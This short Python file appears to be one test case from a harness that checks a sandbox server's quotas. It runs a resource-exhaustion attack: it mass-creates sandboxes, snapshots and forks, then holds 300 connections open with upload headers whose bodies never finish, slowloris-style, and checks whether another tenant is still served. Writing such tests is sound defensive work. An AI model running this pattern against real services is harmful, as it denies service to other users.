# aim: use up the descriptors of the server
# mechanism: sandboxes, contexts, snapshots, uploads that do not end, and connections, all at once
# server: quotas
# plain: naive

import contextlib


def attack():
    for _ in range(8):
        ask("POST", "/v1/sandboxes", {})
        ask("POST", f"{here}/contexts", {})
        ask("POST", f"{here}/snapshots", {})
        ask("POST", f"{here}/fork", {"number": 2})
    with contextlib.ExitStack() as held:
        for number in range(300):
            head = f"PUT {here}/files/content?path=x{number} HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {mine.key}\r\nContent-Length: 2000000\r\n\r\n"
            with contextlib.suppress(OSError):
                held.enter_context(line()).send(head.encode() + bytes(1000))
        return not victim_is_served() and "others are not answered"


judge(attack)
